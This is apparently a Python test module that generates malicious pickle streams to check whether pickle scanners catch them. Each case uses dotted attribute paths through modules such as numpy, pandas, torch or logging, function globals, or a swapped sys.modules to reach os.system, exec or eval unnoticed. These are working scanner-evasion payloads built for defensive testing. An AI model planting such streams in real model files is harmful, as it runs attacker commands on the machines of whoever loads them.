"""Dotted names: STACK_GLOBAL walks attributes, so that a name in an innocent module ends anywhere."""

from __future__ import annotations

from tests.attacks import sources
from tests.attacks.assembly import call, mapped, name, stream, text
from tests.attacks.case import Family, Marker

CASES = Family("dotted names")


def through(module: str, qualname: str, package: str = "") -> None:
    """A call of what the name ends at, with a shell command or a source."""
    runs_source = qualname.endswith(("exec", "eval"))
    CASES.add(
        f"{module}-{qualname}".replace(".", "-").replace("_", "").lower(),
        f"{qualname} of {module}",
        sources.MODELSCAN_BUILD if package else sources.PICKLESCAN_ATTRIBUTES,
        lambda m: stream(call(name(module, qualname), text(m.code if runs_source else m.command))),
        package=package,
    )


through("pathlib", "os.system")
through("logging", "os.system")
through("random", "_os.system")
through("codecs", "builtins.exec")
through("numpy.lib._npyio_impl", "os.system", "numpy")
through("numpy.ma.core", "builtins.eval", "numpy")
through("pandas", "io.common.os.system", "pandas")
through("pandas.core.frame", "com.builtins.exec", "pandas")
through("scipy._lib._testutils", "os.system", "scipy")
through("sklearn", "os.system", "sklearn")
through("sklearn.datasets._base", "os.system", "sklearn")
through("joblib", "memory.os.system", "joblib")
through("joblib.parallel", "os.system", "joblib")
through("torch", "os.system", "torch")
through("torch._utils", "torch.os.system", "torch")


def replaced_module(marker: Marker) -> bytes:
    """sys.modules['sys'] becomes sys.modules itself, so that the name sys.get is dict.get; then it becomes os."""
    modules = name("sys", "modules") + b"\x94"
    swap = text("sys") + b"h\x00s"
    os_by_get = name("sys", "get") + text("os") + b"\x85R\x94"
    return stream(
        modules,
        swap,
        b"0",
        os_by_get,
        b"0h\x00",
        text("sys"),
        b"h\x01s0",
        call(name("sys", "system"), text(marker.command)),
    )


def attributes_of_a_function(marker: Marker) -> bytes:
    """Texts are hung onto a function by BUILD and read back as dotted names: no text of the call is in the stream's order."""
    hung = name("numpy", "prod") + b"N" + mapped((text("a"), text("os"))) + b"\x86b"
    hung += b"N" + mapped((text("b"), text("system"))) + b"\x86b0"
    return stream(hung, name("numpy", "prod.a"), name("numpy", "prod.b"), b"\x93", text(marker.command), b"\x85R")


CASES.add(
    "builtins-of-a-function",
    "a function's __builtins__, by dots alone",
    sources.PICKLESCAN_ATTRIBUTES,
    lambda m: stream(
        call(call(name("warnings", "catch_warnings.__init__.__builtins__.get"), text("eval")), text(m.code))
    ),
)
CASES.add(
    "globals-of-a-function",
    "a function's __globals__, by dots alone",
    sources.PICKLESCAN_ATTRIBUTES,
    lambda m: stream(
        call(
            call(name("operator", "attrgetter"), text("system")),
            call(name("tempfile", "mkdtemp.__globals__.get"), text("_os")),
        )
        + text(m.command)
        + b"\x85R"
    ),
)
CASES.add(
    "dict-of-a-class",
    "a class's __dict__ leads to its functions",
    sources.PICKLESCAN_ATTRIBUTES,
    lambda m: stream(
        call(
            call(name("code", "InteractiveInterpreter.__dict__.get"), text("runsource")),
            call(name("code", "InteractiveInterpreter")),
            text(m.code),
        )
    ),
)
CASES.add(
    "self-of-a-builtin",
    "a builtin's __self__ is its module",
    sources.PICKLESCAN_ATTRIBUTES,
    lambda m: stream(call(name("builtins", "len.__self__.eval"), text(m.code))),
)
CASES.add(
    "replaced-module", "sys.modules['sys'] is replaced while the stream runs", sources.PICKLESCAN_TESTS, replaced_module
)
CASES.add(
    "attributes-of-a-function",
    "texts are hung onto a function, then read as dotted names",
    sources.MODELSCAN_BUILD,
    attributes_of_a_function,
    package="numpy",
)
